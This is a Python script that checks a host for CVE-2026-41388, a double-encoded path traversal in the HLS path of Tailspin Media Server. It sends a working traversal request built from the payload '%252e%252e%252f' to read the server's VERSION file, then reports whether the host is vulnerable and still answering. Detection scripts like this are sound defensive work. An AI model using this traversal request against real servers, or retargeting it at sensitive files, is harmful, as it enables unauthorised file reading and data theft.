#!/usr/bin/env python3
"""CVE-2026-41388 check: double-encoded traversal in Tailspin Media Server HLS.
Reads only the product's own, non-sensitive VERSION file.
Usage: tailspin-hls-traversal-check.py [host] [port]"""
import sys
import urllib.error
import urllib.request

host = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
port = int(sys.argv[2]) if len(sys.argv) > 2 else 8096
UP = "%252e%252e%252f"  # "../" after the second decoding


def get(path):
    try:
        with urllib.request.urlopen("http://%s:%d%s" % (host, port, path),
                                    timeout=10) as r:
            return r.status, r.read(256).decode("latin-1")
    except urllib.error.HTTPError as e:
        return e.code, ""
    except OSError as e:
        return None, str(e)


status, body = get("/stream/hls/default/" + UP * 2 + "VERSION")
if status is None:
    sys.exit("no answer from %s:%d: %s" % (host, port, body))
if status == 200 and body.startswith("Tailspin Media Server"):
    print("VULNERABLE: read %r" % body.splitlines()[0])
else:
    print("not vulnerable (HTTP %s)" % status)
alive = get("/api/health")[0] == 200
print("service still answers" if alive else "service does not answer")
